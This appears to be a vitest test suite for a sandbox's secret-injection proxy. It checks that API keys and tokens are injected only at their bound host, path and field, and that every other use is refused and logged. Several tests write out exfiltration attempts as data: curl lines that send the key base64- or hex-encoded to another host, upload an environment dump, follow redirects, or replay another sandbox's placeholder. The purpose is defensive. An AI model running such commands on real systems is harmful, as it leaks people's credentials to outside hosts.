import { readFile } from "node:fs/promises";
import type { Sandbox } from "@sandboxer/sdk";
import { afterAll, beforeAll, beforeEach, expect, it, vi } from "vitest";
import { requires } from "../capabilities/requires.ts";
import { holds, KEY, MODEL } from "./lab/keys.ts";
import { WORLD } from "./lab/lab.ts";
import { type Bench, openBench, text } from "./lab/sandbox.ts";

const { describe } = await requires("linux-userns", "boxd", "egress-lab");

vi.setConfig({ testTimeout: 180_000 });

const TOKEN = "ghp_0123456789abcdefghijABCDEFGHIJ012345";

describe("where a secret may be put in, and nowhere else", () => {
  let bench: Bench;
  let sandbox: Sandbox;
  beforeAll(async () => {
    bench = await openBench();
    for (const name of ["model.test", "other.test", "sub.model.test"]) await bench.lab.name(name, [WORLD]);
    const cell = (path: string, place: { in: "query" | "body" | "header"; name: string }) => ({
      host: "model.test",
      ports: [443],
      paths: [path],
      place,
    });
    await bench.client.secrets.set("MODEL_KEY", {
      value: KEY,
      bindings: [MODEL, cell("/query", { in: "query", name: "key" })],
    });
    await bench.client.secrets.set("TOKEN", {
      value: TOKEN,
      bindings: [
        cell("/git/**", { in: "header", name: "authorization" }),
        cell("/json", { in: "body", name: "/auth/token" }),
        cell("/form", { in: "body", name: "token" }),
      ],
    });
    const rules = ["model.test", "other.test", "sub.model.test"].flatMap((host) => [
      { host, inspect: true },
      { host, protocol: "http" as const },
    ]);
    sandbox = await bench.sandbox({ rules }, { secrets: ["MODEL_KEY", "TOKEN"] });
  });
  afterAll(() => bench.close());
  beforeEach(() => bench.lab.clear());

  /** As a program inside would: variables are what the shell makes of them. */
  const ask = async (line: string) => {
    const { stdout } = await sandbox.run([
      "sh",
      "-c",
      `env | grep MODEL > /tmp/e; curl -s --max-time 60 -w '\\n%{http_code}' ${line}`,
    ]);
    return text(stdout);
  };
  const seen = async () => (await bench.lab.look()).records.filter(({ kind }) => kind === "request");
  const misuses = async () =>
    (await bench.client.events.list({ limit: 1_000 })).filter(({ type }) => type === "secret.misused");

  const ALLOWED: Record<string, string> = {
    "its header": '-H "x-api-key: $MODEL_KEY" https://model.test/v1/x',
    "the header in other letters": '-H "X-API-Key: $MODEL_KEY" https://model.test/v1/x',
    "the host in capitals": '-H "x-api-key: $MODEL_KEY" https://MODEL.test/v1/x',
    "the host with a dot": '-H "x-api-key: $MODEL_KEY" https://model.test./v1/x',
    "another method": '-X DELETE -H "x-api-key: $MODEL_KEY" https://model.test/v1/x',
    "by the proxy": '--proxy http://198.18.0.1:3128 -H "x-api-key: $MODEL_KEY" https://model.test/v1/x',
    "the query": '"https://model.test/query?a=1&key=$MODEL_KEY&b=2"',
  };
  it.each(Object.entries(ALLOWED))("SE-2 the far side sees the secret: %s", async (_, line) => {
    expect(await ask(line)).toMatch(/\n200$/);
    const [request] = await seen();
    expect(JSON.stringify(request)).toContain(KEY);
  });

  const STOPPED: Record<string, string> = {
    "another header": '-H "authorization: Bearer $MODEL_KEY" https://model.test/v1/x',
    "a header's name": '-H "$MODEL_KEY: x" https://model.test/v1/x',
    "another path": '-H "x-api-key: $MODEL_KEY" https://model.test/v2/x',
    "a path that is made to look right":
      '--path-as-is -H "x-api-key: $MODEL_KEY" https://model.test/v1/../v2',
    "the path": '"https://model.test/v1/$MODEL_KEY"',
    "another member of the query": '"https://model.test/query?other=$MODEL_KEY"',
    "a query's name": '"https://model.test/query?$MODEL_KEY=1"',
    "the body": '-d "$MODEL_KEY" https://model.test/v1/x',
    "another host": '-H "x-api-key: $MODEL_KEY" https://other.test/v1/x',
    "a name below it": '-H "x-api-key: $MODEL_KEY" https://sub.model.test/v1/x',
    "without TLS": '-H "x-api-key: $MODEL_KEY" http://model.test/v1/x',
    "without TLS, by the proxy":
      '--proxy http://198.18.0.1:3128 -H "x-api-key: $MODEL_KEY" http://model.test/v1/x',
    "in base64": '-H "x-data: $(printf %s "u:$MODEL_KEY" | base64 -w0)" https://model.test/v1/x',
    "in hex": '-d "$(printf %s "$MODEL_KEY" | od -An -tx1 | tr -d \' \\n\')" https://model.test/v1/x',
    percent: "-d \"$(printf %s \"$MODEL_KEY\" | od -An -tx1 | tr -d '\\n' | tr ' ' %)\" https://other.test/",
    "a file that is sent": '-F "a=@/tmp/e;filename=x" https://other.test/upload',
  };
  it.each(Object.entries(STOPPED))("SE-2 neither it nor its placeholder gets out: %s", async (_, line) => {
    const before = (await misuses()).length;
    expect(await ask(line)).toMatch(/\n403$/);
    expect(await seen()).toEqual([]);
    await expect.poll(async () => (await misuses()).length, { timeout: 60_000 }).toBe(before + 1);
    expect((await misuses()).map(({ data }) => data)).toContainEqual(
      expect.objectContaining({ secret: "MODEL_KEY", what: "placeholder" }),
    );
  });

  it("SE-2 of every host, place, method and scheme, only its cells get it, and nothing else gets out", async () => {
    await bench.lab.name("evil.test", [WORLD]);
    const hosts = ["model.test", "MODEL.test", "model.test.", "other.test", "evil.test", WORLD];
    const script = await readFile(new URL("lab/matrix.py", import.meta.url));
    await sandbox.files.write("/home/user/matrix.py", [script]);
    await sandbox.files.write("/home/user/order.json", [new TextEncoder().encode(JSON.stringify({ hosts }))]);
    const { stdout, stderr } = await sandbox.run(["python3", "matrix.py", "order.json"], {
      timeoutMs: 100_000,
    });
    const answers = JSON.parse(text(stdout) || text(stderr)) as Record<string, string>;
    expect(Object.keys(answers)).toHaveLength(hosts.length * 6 * 2 * 2);
    const cells = ["model.test", "MODEL.test", "model.test."].flatMap((host) =>
      ["GET", "POST"].map((method) => `${host} listed ${method} https`),
    );
    const all = await seen();
    const said = all.filter(({ what }) => what.startsWith("MESSAGE "));
    expect(new Set(said.map(({ what, body }) => `${what} ${body}`))).toEqual(
      new Set(["MESSAGE close \u0003\u00f0"]),
    );
    const requests = all.filter((one) => !said.includes(one));
    const arrived = requests.map(({ headers = [], ...rest }) => {
      const at = headers.indexOf("x-case");
      const isRight = headers[headers.indexOf("x-api-key") + 1] === KEY;
      return { of: headers[at + 1], isRight, more: holds(JSON.stringify(rest), KEY) };
    });
    // A socket that is opened has none of it in its head; what is said in it afterwards is stopped.
    const sockets = [...hosts.slice(0, 3), "other.test"].flatMap((host) =>
      ["https", "http"].map((scheme) => `${host} socket GET ${scheme}`),
    );
    expect(arrived.filter(({ of = "" }) => of.includes(" socket ")).map(({ of }) => of)).toEqual(sockets);
    expect(arrived.filter(({ of = "" }) => !of.includes(" socket "))).toEqual(
      cells.map((of) => ({ of, isRight: true, more: [] })),
    );
    for (const [of, answer] of Object.entries(answers)) {
      expect(answer === "200", of).toBe(cells.includes(of));
    }
  });

  it("SE-2 a redirect to another place does not take it along", async () => {
    await bench.lab.name("evil.test", [WORLD]);
    expect(await ask('-L -H "x-api-key: $MODEL_KEY" "https://model.test/redirect"')).toMatch(/\n403$/);
    expect(await ask('-L -H "x-note: $MODEL_KEY" https://other.test/redirect')).toMatch(/\n403$/);
    expect(await seen()).toEqual([]);
  });

  it("SE-5 in Basic, in JSON and in a form, with the length that it then has", async () => {
    expect(await ask('-u "git:$TOKEN" https://model.test/git/x')).toMatch(/\n200$/);
    expect(
      await ask(
        `-H 'content-type: application/json' -d "{\\"auth\\":{\\"token\\":\\"$TOKEN\\"},\\"n\\":1}" https://model.test/json`,
      ),
    ).toMatch(/\n200$/);
    expect(await ask('-d "a=1&token=$TOKEN&b=%2F" https://model.test/form')).toMatch(/\n200$/);
    const chunked = `-H 'transfer-encoding: chunked' -d "token=$TOKEN" https://model.test/form`;
    expect(await ask(chunked)).toMatch(/\n200$/);
    const [basic, json, form, last] = await seen();
    expect(basic?.headers).toContain(`Basic ${Buffer.from(`git:${TOKEN}`).toString("base64")}`);
    expect(json?.body).toBe(`{"auth":{"token":"${TOKEN}"},"n":1}`);
    expect(form?.body).toBe(`a=1&token=${TOKEN}&b=%2F`);
    expect(last?.body).toBe(`token=${TOKEN}`);
    for (const one of [json, form]) {
      const at = (one?.headers ?? []).findIndex((name) => name.toLowerCase() === "content-length");
      expect(Number(one?.headers?.[at + 1])).toBe(one?.body?.length);
    }
  });

  it("SE-5 however it is written inside, what arrives is framed as it says, or nothing arrives", async () => {
    const longer = `${TOKEN}_and_some_more_that_makes_it_longer`;
    const script = `
import json, os, socket, ssl
word = os.environ["TOKEN"]
percent = "".join("%%%02x" % b for b in word.encode())
escaped = "".join("\\\\u%04x" % b for b in word.encode())
split = '{"auth":{"token":"' + word + '"}}'
cases = {
  "percent": ("/form", "application/x-www-form-urlencoded", ["token=" + percent]),
  "escaped": ("/json", "application/json", ['{"auth":{"token":"' + escaped + '"}}']),
  "split": ("/json", "application/json", [split[:30], split[30:31], split[31:]]),
}
for case, (path, kind, parts) in cases.items():
    plain = socket.create_connection(("model.test", 443), 20)
    one = ssl.create_default_context().wrap_socket(plain, server_hostname="model.test")
    size = sum(map(len, parts))
    one.sendall(f"POST {path} HTTP/1.1\\r\\nHost: model.test\\r\\nx-case: {case}\\r\\nContent-Type: {kind}\\r\\nContent-Length: {size}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    for part in parts: one.sendall(part.encode())
    print(case, one.recv(4096).decode("latin1").split(" ")[1])`;
    await bench.client.secrets.rotate("TOKEN", { value: longer });
    const { stdout, stderr } = await sandbox.run(["python3", "-c", script], { timeoutMs: 60_000 });
    expect(text(stdout).split("\n").slice(0, 3), text(stderr)).toHaveLength(3);
    await bench.client.secrets.rotate("TOKEN", { value: TOKEN });
    const bodies = (await seen()).map(({ headers = [], body = "" }) => {
      const said = Number(headers[headers.findIndex((one) => /^content-length$/i.test(one)) + 1]);
      return { of: headers[headers.indexOf("x-case") + 1], isFramed: said === body.length, body };
    });
    expect(bodies).toContainEqual({
      of: "split",
      isFramed: true,
      body: `{"auth":{"token":"${longer}"}}`,
    });
    expect(bodies.every(({ isFramed }) => isFramed)).toBe(true);
    const values = bodies.flatMap(({ of, body }) => (body.includes(longer) ? [of] : []));
    expect(values).toEqual(expect.arrayContaining(["split"]));
  });

  it.each([
    `{"token":"$TOKEN"}`,
    `{"auth":{"token":"$TOKEN"},"copy":"$TOKEN"}`,
    `{"auth":{"token":"$TOKEN","token":"x"}}`,
    `{"auth":{"$TOKEN":"x"}}`,
    `["$TOKEN"`,
  ])("SE-5 JSON with it anywhere else is stopped: %s", async (body) => {
    const quoted = body.replaceAll('"', '\\"');
    const line = `-H 'content-type: application/json' -d "${quoted}" https://model.test/json`;
    expect(await ask(line)).toMatch(/\n403$/);
    expect(await seen()).toEqual([]);
  });

  it("SE-3 another sandbox's placeholder is of no use, and is seen", async () => {
    const mine = text((await sandbox.run(["printenv", "MODEL_KEY"])).stdout).trim();
    const rules = [{ host: "model.test", inspect: true }];
    const twin = await bench.sandbox({ rules }, { secrets: ["MODEL_KEY"] });
    const theirs = text((await twin.run(["printenv", "MODEL_KEY"])).stdout).trim();
    expect(theirs).not.toBe(mine);
    const without = await bench.sandbox({ rules });
    for (const thief of [twin, without]) {
      const { stdout } = await thief.run([
        "curl",
        "-s",
        "-H",
        `x-api-key: ${mine}`,
        "https://model.test/v1/x",
      ]);
      expect(text(stdout)).toContain("another sandbox's secret");
    }
    expect(await seen()).toEqual([]);
    const foreign = async () => (await misuses()).filter(({ data }) => data.what === "foreign");
    await expect.poll(foreign).toHaveLength(2);
    const brief = await bench.sandbox({ rules }, { secrets: ["MODEL_KEY"], ttlMs: 10_000 });
    const gone = text((await brief.run(["printenv", "MODEL_KEY"])).stdout).trim();
    await expect.poll(async () => (await brief.refresh()).state, { timeout: 60_000 }).toBe("expired");
    const after = await ask(`-H "x-api-key: ${gone}" https://model.test/v1/x`);
    expect(after, "when its time was up").toMatch(/\n403$/);
    await twin.destroy();
    const late = await ask(`-H "x-api-key: ${theirs}" https://model.test/v1/x`);
    expect(late, "also of one that is gone").toMatch(/\n403$/);
    expect(holds(late, KEY)).toEqual([]);
  });
});
